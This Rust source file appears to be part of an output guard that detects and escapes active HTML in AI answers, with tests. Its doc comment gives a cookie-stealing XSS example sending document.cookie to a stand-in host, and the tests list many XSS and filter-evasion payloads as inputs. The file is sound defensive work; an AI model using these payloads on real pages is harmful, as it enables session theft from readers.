//! Active markup in the answer: what runs, loads or leads away when a page shows it.

use super::Action;
use super::calm::Stretch;
use super::checks::{Check, ChecksError, Files, Made, Request};
use super::code_spans::{CodeSpans, SpanEnd};
use super::destinations::{Destinations, Leads};
use super::fence::{Fence, LineEnd};
use super::judgement::Reason;
use super::policy::Policy;
use super::references::undone;
use super::stream::{Kinds, Reader, Seen, Step, Tail};
use super::tags::{ENDLESS, active, is_script};
use bartizan_core::{Severity, cwe, owasp_llm, rule};
use schemars::JsonSchema;
use serde::{Deserialize, Serialize};
use std::ops::Range;

rule! {
    /// ## What it finds
    /// HTML in an answer that acts when it is shown: scripts, frames, forms, event handlers, addresses with `javascript:`.
    /// Markup inside fenced code and between backticks is shown and not run, and left alone where it is code in every way to
    /// read the lines before, unless the policy says otherwise.
    /// ## Why it matters
    /// Pages that show answers as HTML run it with the rights of the reader.
    /// ## Example
    /// `<img src=x onerror=fetch('//collect.example/'+document.cookie)>`
    /// ## How to fix
    /// Escape answers where they are shown; let the guard escape what acts.
    /// ## References
    /// - <https://cwe.mitre.org/data/definitions/79.html>
    /// - <https://genai.owasp.org/llmrisk/llm052025-improper-output-handling/>
    pub const ACTIVE_MARKUP: Rule = Rule {
        id: "guard/active-markup",
        title: "markup that acts in an answer",
        severity: Severity::High,
        remedy: "Escape answers where they are shown.",
        taxonomies: &[cwe(79), owasp_llm("LLM05")],
    };
}

/// Active markup in answers.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize, JsonSchema)]
#[serde(default, deny_unknown_fields, rename_all = "kebab-case")]
pub struct MarkupPolicy {
    /// What to do.
    pub mode: MarkupHandling,
    /// Whether markup inside code is judged too: for pages that show answers as HTML and know no Markdown.
    pub fenced: bool,
}

/// What to do about active markup.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize, JsonSchema)]
#[serde(rename_all = "kebab-case")]
pub enum MarkupHandling {
    /// Do not look.
    Off,
    /// Let it pass and say so.
    Flag,
    /// Write its brackets as `&lt;` and `&gt;`.
    #[default]
    Escape,
    /// End the answer.
    Block,
}

/// Longest tag, and longest piece of a span of code with a tag in it, that is waited for; of a longer tag the bracket is escaped.
const LONGEST: usize = 2048;

/// The check, if it is on.
#[expect(clippy::unnecessary_wraps, reason = "the form of the registry")]
pub(crate) fn make(policy: &Policy, _: Files<'_>) -> Result<Made, ChecksError> {
    let policy = policy.markup;
    Ok((policy.mode != MarkupHandling::Off).then(|| Box::new(Markup { policy }) as Box<dyn Check>))
}

#[derive(Debug)]
struct Markup {
    policy: MarkupPolicy,
}

impl Check for Markup {
    fn reader(&self, _: &Request<'_>) -> Option<Box<dyn Reader>> {
        Some(Box::new(MarkupReader {
            policy: self.policy,
            fence: Fence::default(),
            spans: CodeSpans::default(),
            destinations: Destinations::default(),
            tag: None,
            maybe: Vec::new(),
            before: 0,
        }))
    }
}

#[derive(Debug, Clone)]
struct MarkupReader {
    policy: MarkupPolicy,
    fence: Fence,
    spans: CodeSpans,
    destinations: Destinations,
    tag: Option<Tag>,
    /// What acts unless the span of code that is open has an end.
    maybe: Vec<Acting>,
    /// The last byte.
    before: u8,
}

/// What begins a tag, a link or code, and what ends a line.
const TURNS: Kinds = Kinds::ANGLE.or(Kinds::SQUARE).or(Kinds::FENCE).or(Kinds::LINE_END);

/// A tag under way.
#[derive(Debug, Clone, Copy)]
struct Tag {
    start: usize,
    /// The quote a value is in.
    quote: Option<u8>,
    /// The last byte that is no blank.
    last: u8,
    /// Whether there is a backtick in it.
    has_backtick: bool,
}

/// Something that acts, and where.
#[derive(Debug, Clone)]
struct Acting {
    what: &'static str,
    span: Range<usize>,
}

impl MarkupReader {
    /// Something that acts: told at once, or once it is known that it is no code.
    fn found(&mut self, acting: Acting, tail: &Tail, seen: &mut Vec<Seen>) {
        if self.spans.is_open() { self.maybe.push(acting) } else { seen.push(self.seen(acting, tail)) }
    }

    /// What acted in a span that is no code for sure.
    fn tell(&mut self, tail: &Tail, seen: &mut Vec<Seen>) {
        for acting in std::mem::take(&mut self.maybe) {
            seen.push(self.seen(acting, tail));
        }
    }

    fn seen(&self, acting: Acting, tail: &Tail) -> Seen {
        let Acting { what, span } = acting;
        let action = match self.policy.mode {
            MarkupHandling::Off | MarkupHandling::Flag => Action::Flag,
            MarkupHandling::Escape => Action::Redact,
            // What has no end may be no tag at all, and is none any longer when its beginning is escaped.
            MarkupHandling::Block if what == ENDLESS => Action::Redact,
            MarkupHandling::Block => Action::Block,
        };
        let replacement = (action == Action::Redact).then(|| match what {
            LINK => "#".to_owned(),
            _ => tail.get(span.clone()).replace('<', "&lt;").replace('>', "&gt;"),
        });
        Seen {
            reason: Reason {
                check: ACTIVE_MARKUP.id,
                label: what.to_owned(),
                score: 0.9,
                action,
                pointer: String::new(),
                span,
                message: format!("markup that acts when it is shown: {what}"),
            },
            replacement,
        }
    }

    /// Takes what a byte says of lines and of code. Gives whether it is code, in which nothing acts.
    fn is_code(&mut self, byte: u8, tail: &Tail, seen: &mut Vec<Seen>) -> bool {
        let ended = self.fence.byte(byte);
        if let Some(ended) = ended {
            let end = self.spans.end_of_run();
            self.span_ended(end, tail, seen);
            // A block of code, or an empty line, ends a paragraph.
            if ended == LineEnd::Blank || self.fence.is_code() {
                self.spans.reset();
                self.tell(tail, seen);
            } else if self.spans.is_open() {
                self.spans.doubt();
                self.tell(tail, seen);
            }
            return false;
        }
        if matches!(byte, b'<' | b'`') && self.fence.is_code() {
            return true;
        }
        if self.tag.is_none() || self.spans.is_open() {
            let end = self.spans.byte(byte);
            self.span_ended(end, tail, seen);
        }
        false
    }

    fn span_ended(&mut self, end: Option<SpanEnd>, tail: &Tail, seen: &mut Vec<Seen>) {
        match end {
            Some(SpanEnd::Code) if self.fence.is_markdown() => {
                self.maybe.clear();
                self.tag = None;
            }
            Some(_) => {
                self.spans.doubt();
                self.tell(tail, seen);
            }
            None => {}
        }
    }

    /// Takes a byte of what may be a tag.
    fn tag(&mut self, place: usize, byte: u8, tail: &Tail, seen: &mut Vec<Seen>) {
        let Some(tag) = &mut self.tag else {
            if self.before == b'<' && (byte.is_ascii_alphabetic() || matches!(byte, b'/' | b'!' | b'?')) {
                let start = place.saturating_sub(1);
                self.tag = Some(Tag { start, quote: None, last: byte, has_backtick: false });
                if matches!(byte, b'!' | b'?') && !self.spans.is_open() {
                    self.spans.doubt();
                }
            }
            return;
        };
        if tag.quote.is_none() && self.before == b'<' && (byte.is_ascii_alphabetic() || byte == b'/') {
            // One that begins within another: what stands before it was the other's.
            let start = place.saturating_sub(1);
            let outer = std::mem::replace(tag, Tag { start, quote: None, last: byte, has_backtick: false });
            let span = outer.start..start;
            if let Some(what) = active(tail.get(span.clone())) {
                self.found(Acting { what, span }, tail, seen);
            }
            return self.after_tag(outer.has_backtick, tail, seen);
        }
        tag.has_backtick |= byte == b'`';
        match (tag.quote, byte) {
            (Some(quote), _) if quote == byte => tag.quote = None,
            (None, b'"' | b'\'') if tag.last == b'=' => tag.quote = Some(byte),
            (None, b'>') => {
                let span = tag.start..place.saturating_add(1);
                let has_backtick = tag.has_backtick;
                self.tag = None;
                if let Some(what) = active(tail.get(span.clone())) {
                    self.found(Acting { what, span }, tail, seen);
                }
                return self.after_tag(has_backtick, tail, seen);
            }
            _ => {}
        }
        if !byte.is_ascii_whitespace() {
            tag.last = byte;
        }
    }

    /// Who takes a tag with a backtick for none takes the backtick for one: nothing behind it is code for sure, unless it began within what
    /// may be code, whose backticks count before its own.
    fn after_tag(&mut self, has_backtick: bool, tail: &Tail, seen: &mut Vec<Seen>) {
        if has_backtick && !self.policy.fenced && !self.spans.is_open() {
            self.spans.doubt();
            self.tell(tail, seen);
        }
    }

    /// Looks at links of Markdown whose ends were read.
    fn links(&mut self, tail: &Tail, seen: &mut Vec<Seen>) {
        for one in self.destinations.found() {
            if !self.policy.fenced && self.fence.is_code() {
                continue;
            }
            let text = tail.get(one.span.clone());
            if one.of != Leads::Reference
                && (is_script(&undone(text, true)) || is_script(&undone(text, false)))
            {
                // Between angle brackets it looks like a tag as well.
                if self.tag.is_some_and(|tag| tag.start.saturating_add(1) == one.span.start) {
                    self.tag = None;
                }
                self.found(Acting { what: LINK, span: one.span }, tail, seen);
            }
        }
    }

    /// Whether a word that opens and closes nothing is nothing to it.
    fn is_idle(&self) -> bool {
        self.tag.is_none() && !self.spans.is_open() && self.destinations.is_idle() && self.before != b'<'
    }

    /// Passes over such words.
    fn pass_over(&mut self, words: &str) {
        self.destinations.pass(words);
        self.fence.pass(words);
        self.before = words.bytes().next_back().unwrap_or(self.before);
    }

    /// Where something begins that may still turn out to act.
    fn pending(&self) -> Option<usize> {
        let tag = self.tag.map(|tag| tag.start);
        tag.into_iter()
            .chain(self.destinations.pending())
            .chain(self.maybe.first().map(|one| one.span.start))
            .min()
    }
}

impl Reader for MarkupReader {
    fn read(&mut self, tail: &Tail, step: &Step, last: bool, seen: &mut Vec<Seen>) -> usize {
        let word = tail.word(step);
        // A word that opens and closes nothing.
        if self.is_idle() && !last && !step.kinds.any(TURNS) {
            self.pass_over(word);
            return step.end;
        }
        for (at, byte) in word.bytes().enumerate() {
            let place = step.start.saturating_add(at);
            let is_code = !self.policy.fenced && self.is_code(byte, tail, seen);
            self.destinations.byte(place, byte);
            if is_code && self.tag.is_none() {
                self.before = 0;
                continue;
            }
            if byte == b'>' || byte == b')' || byte.is_ascii_whitespace() {
                self.links(tail, seen);
            }
            self.tag(place, byte, tail, seen);
            self.before = byte;
        }
        if last {
            self.destinations.finish(step.end);
            self.links(tail, seen);
            let end = self.spans.end_of_run();
            self.span_ended(end, tail, seen);
            if let Some(tag) = self.tag.take()
                && let Some(what) = active(tail.get(tag.start..step.end))
            {
                self.spans.doubt();
                self.found(Acting { what, span: tag.start..step.end }, tail, seen);
            }
            self.spans.doubt();
            self.tell(tail, seen);
            return step.end;
        }
        // What is waited for no longer is no code, and no tag.
        if self.maybe.first().is_some_and(|one| step.end.saturating_sub(one.span.start) > LONGEST) {
            self.spans.doubt();
            self.tell(tail, seen);
        }
        if let Some(tag) = self.tag.filter(|tag| step.end.saturating_sub(tag.start) > LONGEST) {
            self.tag = None;
            let text = tail.get(tag.start..step.end);
            let (what, span) = match active(text) {
                Some(what) => (what, tag.start..step.end),
                None => (ENDLESS, tag.start..tag.start.saturating_add(1)),
            };
            self.spans.doubt();
            self.tell(tail, seen);
            self.found(Acting { what, span }, tail, seen);
        }
        self.links(tail, seen);
        let opened = (self.before == b'<').then(|| step.end.saturating_sub(1));
        self.pending().or(opened).unwrap_or(step.end)
    }

    fn passes_until(&self, _: &Range<usize>) -> usize {
        if self.is_idle() { usize::MAX } else { 0 }
    }

    fn pass(&mut self, tail: &Tail, stretch: &Stretch) -> usize {
        self.pass_over(tail.held(stretch.span()));
        stretch.end
    }

    fn boxed(&self) -> Box<dyn Reader> {
        Box::new(self.clone())
    }

    fn reads_arguments(&self) -> bool {
        false
    }
}

/// A link of Markdown that runs a script.
const LINK: &str = "javascript-link";

#[cfg(test)]
mod tests {
    use super::super::answer::tests::{answer, streamed};
    use super::super::checks::tests::{checks, exchange};
    use crate::check::Session;

    fn labels(toml: &str, text: &str) -> (String, Vec<String>) {
        let (out, reasons, blocked) = answer(toml, text);
        (out, reasons.into_iter().chain(blocked).map(|one| one.label).collect())
    }

    #[test]
    fn what_acts_is_escaped() {
        for (text, label) in [
            ("a <script>alert(1)</script> b", "script"),
            ("a <img src=x onerror=\"a > b\"> b", "event-handler"),
            ("a <a href=\" &#x6a;avascript:alert(1)\">x</a> b", "javascript-address"),
            ("a <svg/onload=alert(1)> b", "svg"),
            ("a <iframe srcdoc='x'", "iframe"),
            ("a `x`<script> b", "script"),
            ("a <div style='width:expression(1)'> b", "script-in-style"),
        ] {
            let (out, found) = labels("", text);
            assert_eq!(found.first().map(String::as_str), Some(label), "{text}");
            assert!(out.contains("&lt;"), "{out}");
        }
        assert_eq!(labels("", "a [x](javascript:alert(1)) b").0, "a [x](#) b");
    }

    /// What acts behind marks that look like those of code to whoever does not look closely.
    const NO_CODE: &[&str] = &[
        "Use the ` key. <script>alert(1)</script>",
        "a`<script>alert(1)</script>",
        "\\` <script>alert(1)</script> `",
        "`` a ` <script>alert(1)</script> `",
        "text\n    ```\n<script>alert(1)</script>\n    ```\n",
        "``` a`b\n<script>alert(1)</script>\n```\n",
        "- a\n  ```\n  x\n\nparagraph\n<script>alert(1)</script>\n",
        "- a\n  ```\n  x\n\nparagraph\n  ```\n<script>alert(1)</script>\n",
        "> ```\n> x\n\n<script>alert(1)</script>\n",
        "<div>\n```\n<script>alert(1)</script>\n```\n</div>",
        "<div>\n`<script>alert(1)</script>`",
        "- <div>`<script>alert(1)</script>`",
        "<b>\n`<script>alert(1)</script>`",
        "<!-- > ` --> <script>alert(1)</script> `",
        "<!--\n\n```\n-->\n<script>alert(1)</script>\n```\n",
        "<b ` > `<script>alert(1)</script>`",
        "<b title='`'> ` <script>alert(1)</script> `",
        "` a\n- <script>alert(1)</script> `",
        "a ` b\n` <script>alert(1)</script> `",
        "| a |\n|---|\n| ` | <script>alert(1)</script> ` |",
        "`a\r\r<script>alert(1)</script>`",
        "```\n> ```\n```\n<script>alert(1)</script>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<b <script>alert(1)</script>",
        "<b x=\" <script>alert(1)</script>",
        "`<b title=`><script>alert(1)</script>",
    ];

    #[test]
    fn what_is_no_code_for_sure_is_escaped_whatever_the_cut() {
        let checks = checks("");
        for text in NO_CODE {
            let judged = |cuts: &[usize]| {
                streamed(&mut checks.answer(&exchange(&[]), &Session::new([0; 32])), text, cuts)
            };
            let whole = judged(&[]);
            assert!(!whole.0.contains("<script") && !whole.0.contains("<img"), "{text}: {}", whole.0);
            for cut in 0..text.len() {
                assert_eq!(judged(&[cut]), whole, "{text} {cut}");
            }
            assert_eq!(judged(&(0..text.len()).collect::<Vec<_>>()), whole, "{text}");
        }
    }

    #[test]
    fn a_tag_without_an_end_is_none_any_longer() {
        let text = format!("a <img alt=\"{}\" onerror=alert(1) src=x> b", "a ".repeat(1500));
        for mode in ["escape", "block"] {
            let (out, found) = labels(&format!("[markup]\nmode = '{mode}'"), &text);
            assert!(out.starts_with("a &lt;img alt") && found == ["endless-tag"], "{found:?}");
        }
        let long = format!("Where i <n holds, {}", "the sum is smaller. ".repeat(200));
        assert_eq!(labels("", &long).0, long.replace('<', "&lt;"));
    }

    #[test]
    fn links_that_run_scripts_are_found_in_every_form() {
        for (text, left) in [
            ("[x](<javascript:alert(1)>) b", "[x](<#>) b"),
            ("[x]( javascript:alert(1)) b", "[x]( #) b"),
            ("[x](\njavascript:alert(1)) b", "[x](\n#) b"),
            ("[x](javascript\\:alert(1)) b", "[x](#) b"),
            ("[x](javascript&colon;alert(1))", "[x](#)"),
            ("[a](https://ok.example)[x](javascript:alert(1))", "[a](https://ok.example)[x](#)"),
            ("[x]\n\n[x]: javascript:alert(1)\n", "[x]\n\n[x]: #\n"),
            ("a <javascript:alert(1)> b", "a &lt;javascript:alert(1)&gt; b"),
            ("[x](data:text/xml,<x/>)", "[x](#)"),
            ("`a` [x](javascript:alert(1)) `b`", "`a` [x](#) `b`"),
            ("Write `[x](javascript:f)` so", "Write `[x](javascript:f)` so"),
            ("```\n[x](javascript:f)\n```\n", "```\n[x](javascript:f)\n```\n"),
        ] {
            for cut in 0..text.len() {
                let mut judge = checks("").answer(&exchange(&[]), &Session::new([0; 32]));
                assert_eq!(streamed(&mut judge, text, &[cut]).0, left, "{text} {cut}");
            }
        }
    }

    #[test]
    fn plain_markup_comparisons_and_shown_code_are_left_alone() {
        for text in [
            "a <b>bold</b> and <a href=\"https://example.org/?on=1\">link</a>",
            "if a < b and c > d then i<10",
            "Use `<script>` tags, ` <b onclick=x> ` too:\n```html\n<script>alert(1)</script>\n```\n",
            "``<script>`</script>`` and `<iframe>`, not `<svg>`.\n\n~~~\n<script>\n\n<form>\n~~~\n",
            "1. Add this:\n\n   ```html\n   <script src='x'></script>\n   ```\n\n2. Then:\n    ```html\n    <form>\n    ```\n",
            "> Use\n> ```html\n> <script>\n> ```\n\n| `<script>` | runs |\n|---|---|\n| `<form>` | sends |\n",
            "<b>Note</b>: `<script>` runs.\n- `<link>` loads\n",
            "<https://docs.example.org/a?b=c> says that `<script>` runs.\n",
            "Write ``<a onclick=`x`>`` so, or `` `<script>` ``.\n",
        ] {
            assert_eq!(labels("", text), (text.to_owned(), vec![]));
        }
        assert_eq!(labels("[markup]\nfenced = true", "`<script>`").1, ["script"]);
    }

    #[test]
    fn no_cut_lets_a_tag_out() {
        let text = "one <img alt=\"two three\" src=x onerror='go( 1 )'> four";
        let checks = checks("[markup]\nmode = 'block'");
        for cut in 0..text.len() {
            let mut judge = checks.answer(&exchange(&[]), &Session::new([0; 32]));
            let (out, _, blocked) = streamed(&mut judge, text, &[cut]);
            assert_eq!((out.as_str(), blocked.is_some()), ("one ", true));
        }
    }
}
